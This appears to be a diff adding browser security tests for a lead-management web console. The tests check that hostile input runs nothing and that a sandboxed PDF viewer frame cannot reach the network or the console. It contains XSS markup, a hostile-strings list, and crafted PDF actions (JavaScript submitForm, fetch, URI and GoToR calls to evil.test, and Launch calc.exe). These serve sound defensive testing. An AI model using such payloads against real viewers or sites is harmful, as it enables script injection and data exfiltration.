@@ -1,0 +1,185 @@
+import {createServer} from 'node:http';
+import type {AddressInfo} from 'node:net';
+
+import type {Page} from 'playwright-core';
+import t from 'tap';
+import type {Test} from 'tap';
+
+import {HOSTILE_STRINGS} from '../hostile-strings.js';
+import {makePdf} from '../pdf.js';
+import {startServer} from '../start-server.js';
+import {makeTextPdf} from '../text-pdf.js';
+import {Visitor} from '../visitor.js';
+import {openBrowser} from './browser.js';
+import {PHONE, isTooWide, makeLead, openConsole} from './console-page.js';
+
+const MARKUP = '<img src=x onerror="window.ran=1"><script>window.ran=1</script>';
+
+t.test('hostile texts in every field run nothing and break no page', async (t) => {
+  const server = await startServer(t);
+  const visitor = await Visitor.arrive(server.url);
+  await visitor.call('PUT', '/api/session/consents', {
+    json: {
+      consents: [{purpose: 'personal_data', granted: true, wording: MARKUP, locale: 'en'}],
+    },
+  });
+  await visitor.upload(makePdf(), {name: `${MARKUP}.pdf`});
+  await visitor.contact('"<script>window.ran=1</script>"@example.com', MARKUP);
+  await visitor.contact('anna@example.com', MARKUP);
+  for (const [index, body] of [MARKUP, ...HOSTILE_STRINGS].entries())
+    await visitor.call('POST', '/api/messages', {json: {client_id: `m${index}`, body}});
+  const others = HOSTILE_STRINGS.filter((text) => text.trim() && text.length < 100);
+  for (const name of others.slice(0, 30)) await makeLead(server, {name, files: []});
+
+  const browser = await openBrowser(t);
+  for (const context of [{}, PHONE]) {
+    const {page, main, noise, requested} = await openConsole(
+      browser,
+      server,
+      'demo/leads?view=all',
+      {
+        context,
+      },
+    );
+    await main.locator('.leads [data-uuid]').first().waitFor();
+    t.equal(await isTooWide(page), false, 'the list fits');
+    await page.goto(`${server.url}/console/leads/${visitor.uuid}`);
+    await main.locator('.transcript .message').first().waitFor();
+    await openAllDetails(page);
+    await main.locator('.trail li').first().waitFor({state: 'attached'});
+    t.equal(await isTooWide(page), false, 'the lead fits');
+    await page.goto(`${server.url}/console/demo/site`);
+    await main.locator('.site-page').waitFor();
+    t.equal(await page.evaluate('window.ran'), undefined, 'nothing ran');
+    t.same(noise, [], 'no policy was violated');
+    t.same(foreign(requested, server.url), []);
+  }
+});
+
+/** Shows everything that is folded. */
+const openAllDetails = (page: Page) =>
+  page.evaluate('document.querySelectorAll("details").forEach((details) => (details.open = true))');
+
+const foreign = (requested: readonly string[], url: string) =>
+  requested.filter((one) => new URL(one).origin !== url && !/^(data|blob):/.test(one));
+
+/** Returns a PDF whose catalogue or page has this action. */
+const withAction = (action: string): Buffer =>
+  Buffer.from(
+    makeTextPdf([['Hello']])
+      .toString('latin1')
+      .replace('/Type /Catalog', `/Type /Catalog ${action}`),
+    'latin1',
+  );
+
+t.test('a hostile PDF opens nothing and requests nothing', async (t) => {
+  const server = await startServer(t);
+  const files = [
+    '/OpenAction << /S /JavaScript /JS (app.alert(1); this.submitForm("http://evil.test/")) >>',
+    '/OpenAction << /S /URI /URI (http://evil.test/) >>',
+    '/OpenAction << /S /Launch /F (calc.exe) >>',
+    '/OpenAction << /S /GoToR /F (http://evil.test/a.pdf) /D [0 /Fit] >>',
+    '/AcroForm << /XFA (<xdp><script>fetch("http://evil.test/")</script></xdp>) >>',
+  ].map((action, index) => ({name: `hostile-${index}.pdf`, bytes: withAction(action)}));
+  const {page, main, noise, requested, context} = await openConsole(
+    await openBrowser(t),
+    server,
+    'account',
+  );
+  for (const file of files) {
+    const {uuid} = await makeLead(server, {files: [file]});
+    const {name} = file;
+    await page.goto(`${server.url}/console/leads/${uuid}`);
+    await main
+      .locator('.documents')
+      .getByRole('button', {name: new RegExp(`Look at .${name}`)})
+      .click();
+    await main.getByRole('button', {name: 'Show pages'}).click();
+    await page.frameLocator('iframe').locator('canvas').first().waitFor();
+  }
+  t.same(noise, []);
+  t.same(foreign(requested, server.url), []);
+  t.equal(context.pages().length, 1, 'no window was opened');
+});
+
+t.test('the frame reaches neither the network nor the console', async (t) => {
+  const server = await startServer(t);
+  const foreign = await startCounter(t);
+  const {uuid} = await makeLead(server, {files: [{name: 'a.pdf', bytes: makeTextPdf([['a']])}]});
+  const {page, main} = await openConsole(await openBrowser(t), server, `leads/${uuid}`);
+  await main
+    .locator('.documents')
+    .getByRole('button', {name: /Look at .a.pdf/})
+    .click();
+  await main.getByRole('button', {name: 'Show pages'}).click();
+  await page.frameLocator('iframe').locator('canvas').waitFor();
+  const frame = page.frames().find((one) => one.url().endsWith('/console/pages/'));
+  if (!frame) throw new Error('There is no frame for the pages.');
+  const own = server.logLines.length;
+  const outcomes = {
+    fetch: `fetch("${foreign.url}").then(() => "reached", () => "blocked")`,
+    'fetch of the console': `fetch("${server.url}/api/owner/account").then(() => "reached", () => "blocked")`,
+    image: `new Promise((resolve) => {
+      const image = new Image();
+      image.onload = () => resolve("reached");
+      image.onerror = () => resolve("blocked");
+      image.src = "${foreign.url}";
+    })`,
+    document: attempt('parent.document.title'),
+    cookie: attempt('document.cookie'),
+    storage: attempt('localStorage.length'),
+    window: `open("${foreign.url}") ? "reached" : "blocked"`,
+    navigation: attempt(`top.location = "${foreign.url}"`),
+  };
+  for (const [name, script] of Object.entries(outcomes))
+    t.equal(await frame.evaluate<string>(script), 'blocked', name);
+  t.equal(foreign.count(), 0, 'the other server got no request');
+  t.notOk(
+    server.logLines.slice(own).some((line) => line['route'] === '/api/owner/account'),
+    'nor did the console',
+  );
+  t.equal(new URL(page.url()).pathname, `/console/leads/${uuid}`);
+});
+
+/** Returns a script whose value is whether an expression throws. */
+const attempt = (expression: string): string =>
+  `(() => { try { void (${expression}); return "reached"; } catch { return "blocked"; } })()`;
+
+/** Starts a server that counts its requests. */
+const startCounter = async (t: Test) => {
+  let count = 0;
+  const server = createServer((_request, response) => {
+    count++;
+    response.end();
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  t.teardown(() => server.close());
+  const {port} = server.address() as AddressInfo;
+  return {url: `http://127.0.0.1:${port}/a.png`, count: () => count};
+};
+
+t.test('a frame that is silent is removed, and the console stays usable', async (t) => {
+  const server = await startServer(t);
+  const {uuid} = await makeLead(server, {files: [{name: 'a.pdf', bytes: makeTextPdf([['a']])}]});
+  const {page, main} = await openConsole(await openBrowser(t), server, `leads/${uuid}`);
+  // The frame gets a script that sends nothing, as one that hangs.
+  await page.route('**/console/assets/pages-*.js', (route) =>
+    route.fulfill({
+      contentType: 'text/javascript',
+      body: '',
+      headers: {'access-control-allow-origin': '*'},
+    }),
+  );
+  await page.clock.install();
+  await main
+    .locator('.documents')
+    .getByRole('button', {name: /Look at .a.pdf/})
+    .click();
+  await main.getByRole('button', {name: 'Show pages'}).click();
+  await main.locator('iframe').waitFor();
+  await page.clock.runFor(9_000);
+  t.equal(await main.locator('iframe').count(), 1);
+  await page.clock.runFor(1_500);
+  await main.getByText('This file is too heavy to show; download it.').waitFor();
+  t.equal(await main.locator('iframe').count(), 0);
+});
